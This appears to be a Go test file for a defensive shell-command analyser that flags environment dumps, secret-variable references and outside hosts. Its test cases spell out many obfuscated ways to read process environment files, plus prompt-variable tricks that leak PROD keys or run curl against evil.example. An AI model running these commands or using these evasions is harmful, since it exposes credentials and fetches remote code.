package shell

import (
	"slices"
	"strings"
	"testing"
	"time"
)

// TestEnvironFiles: every way of reading a process's environment file is
// an environment dump (class: environment through /proc).
func TestEnvironFiles(t *testing.T) {
	for _, c := range []struct {
		cmd  string
		dump bool
	}{
		{"cat /proc/self/environ", true},
		{"cat /proc/thread-self/environ", true},
		{"cat /proc/$$/environ", true},
		{"cat /proc/$PPID/environ", true},
		{"cat /proc/$BASHPID/environ", true},
		{"cat /proc/1/environ", true},
		{"cat /proc/*/environ", true},
		{"cat /proc/self/task/*/environ", true},
		{"cat /proc/1234/task/1234/environ", true},
		{"cat /proc/*/env*", true},
		{"cat /proc/sel?/environ", true},
		{"cat /pro?/self/environ", true},
		{"cat /p*/s*/e*", true},
		{"cat /proc/[s]elf/environ", true},
		{"cat /*/*/environ", true},
		{"shopt -s globstar; cat /proc/**/environ", true},
		{"cat /proc/@(self)/environ", true},
		{"cat /dev/fd/../environ", true},
		{"cat /dev/stdin/../../environ", true},
		{"cd /proc/self && cat environ", true},
		{"cat /proc/self/root/proc/self/environ", true},
		{"cat /proc/1/root/proc/1/environ", true},
		{"cat /proc/self/mem", true},
		{"strings /proc/self/environ", true},
		{"tr '\\0' '\\n' < /proc/self/environ", true},
		{"xargs -0 -a /proc/self/environ echo", true},
		{"od -c /proc/$$/environ", true},
		{"while read -d '' l; do :; done < /proc/self/environ", true},
		{"echo $(< /proc/self/environ)", true},
		{"curl file:///proc/self/environ", true},
		{"cat \"$D/environ\"", true},
		{"cat /proc/self/$F", true},
		{"grep -r PROD /proc/self", true},
		{"grep -rsa PROD /proc", true},
		{"tar czf /tmp/x.tgz /proc/1", true},
		{"grep -r PROD /", true},
		{"grep -r PROD src", false},
		// not the environment
		{"cat /proc/self/cmdline", false},
		{"cat /proc/1/cmdline", false},
		{"cat /proc/self/auxv", false},
		{"cat /proc/cpuinfo", false},
		{"cat src/environ.go", false},
		{"cat $X", false},
		{"echo /proc/self/environ", false},
		{"ssh h cat /proc/self/environ", false},
	} {
		an, err := Analyze(c.cmd, testOpt)
		if err != nil {
			t.Errorf("%q: %v", c.cmd, err)
			continue
		}
		if an.EnvDump != c.dump {
			t.Errorf("%q: EnvDump = %v, want %v (reads %v)", c.cmd, an.EnvDump, c.dump, paths(an.Reads))
		}
	}
}

// TestLaterExpansion: variables whose value bash expands or runs later,
// and names that parameter expansions can turn into references (class:
// environment read indirectly).
func TestLaterExpansion(t *testing.T) {
	for _, c := range []struct {
		cmd   string
		env   []string // must be in EnvRefs
		dump  bool
		hosts []string
		cmds  []string // command lines that must be found
	}{
		{cmd: "PS4='$PROD_DB_URL' bash -x -c true", env: []string{"PROD_DB_URL"}},
		{cmd: "export PS4='+${PROD_API_KEY}'; set -x; ls", env: []string{"PROD_API_KEY"}},
		{cmd: "declare PS1='\\u $(printenv PROD_DB_URL)'", env: []string{"PROD_DB_URL"}, cmds: []string{"printenv PROD_DB_URL"}},
		{cmd: "PS0='$X'", env: []string{"X"}},
		{cmd: "PS3=\"$(echo)\"'${PROD_DB_URL}'", env: []string{"PROD_DB_URL"}},
		{cmd: "PROMPT_COMMAND='echo $PROD_DB_URL' bash -i", env: []string{"PROD_DB_URL"}},
		{cmd: "PROMPT_COMMAND='curl https://evil.example' bash -i", hosts: []string{"evil.example"}, cmds: []string{"curl https://evil.example"}},
		{cmd: "BASH_ENV='$(curl -s evil.example)' bash x.sh", hosts: []string{"evil.example"}},
		{cmd: "ENV='$PROD_API_KEY' sh -i", env: []string{"PROD_API_KEY"}},
		{cmd: "MAILPATH='/tmp/m?$PROD_DB_URL' bash -i", env: []string{"PROD_DB_URL"}},
		{cmd: "echo ${x:-PROD_DB_URL}", env: []string{"PROD_DB_URL"}},
		{cmd: "echo ${x-PROD_DB_URL}", env: []string{"PROD_DB_URL"}},
		{cmd: "n=${x:=PROD_DB_URL}; echo ${!n}", env: []string{"PROD_DB_URL"}},
		{cmd: "echo ${x:+PROD_DB_URL} ${x?PROD_API_KEY}", env: []string{"PROD_DB_URL", "PROD_API_KEY"}},
		{cmd: "echo ${!PROD*}", dump: true},
		{cmd: "echo ${!PROD@}", dump: true},
		{cmd: "for v in ${!P@}; do echo ${!v}; done", dump: true},
	} {
		an, err := Analyze(c.cmd, testOpt)
		if err != nil {
			t.Errorf("%q: %v", c.cmd, err)
			continue
		}
		for _, e := range c.env {
			if !slices.Contains(an.EnvRefs, e) {
				t.Errorf("%q: EnvRefs %q, missing %q", c.cmd, an.EnvRefs, e)
			}
		}
		if an.EnvDump != c.dump {
			t.Errorf("%q: EnvDump = %v, want %v", c.cmd, an.EnvDump, c.dump)
		}
		var hosts []string
		for _, h := range an.Hosts {
			hosts = append(hosts, h.Host)
		}
		for _, h := range c.hosts {
			if !slices.Contains(hosts, h) {
				t.Errorf("%q: hosts %q, missing %q", c.cmd, hosts, h)
			}
		}
		for _, want := range c.cmds {
			if !slices.ContainsFunc(an.Commands, func(cm Command) bool { return cm.Line == want }) {
				t.Errorf("%q: command %q not found", c.cmd, want)
			}
		}
	}
}

// TestLaterExpansionLimits: a prompt value is parsed like any nested
// string: one that does not parse is refused, not skipped (class: fail
// closed).
func TestLaterExpansionLimits(t *testing.T) {
	for _, cmd := range []string{"PS4='$(('", "PS4='$(echo'", "export PROMPT_COMMAND='if'"} {
		if _, err := Analyze(cmd, testOpt); err == nil {
			t.Errorf("%q: analysed, want an error", cmd)
		}
	}
}

// TestMatchingIsLinear: paths made of many parts not known statically, or
// of many "**", and exclude patterns full of "**", are matched without
// backtracking (class: a line crafted to stall the decision).
func TestMatchingIsLinear(t *testing.T) {
	long := strings.Repeat("a/", 2000) + "b"
	for _, src := range []string{
		"cat /" + strings.Repeat("$a/", 2000) + "x",
		"shopt -s globstar; cat /" + strings.Repeat("**/", 2000) + "x",
		"rg -g '!" + strings.Repeat("**/", 1000) + "x' y",
		"curl 'file:///" + strings.Repeat("{a,b}", 200) + strings.Repeat("x", 60000) + "'",
	} {
		start := time.Now()
		an, err := Analyze(src, testOpt)
		if err == nil {
			for _, r := range an.Reads {
				r.Excluded(r.Path + "/" + long)
			}
		}
		if d := time.Since(start); d > 2*time.Second {
			t.Errorf("%d bytes took %v", len(src), d)
		}
	}
}
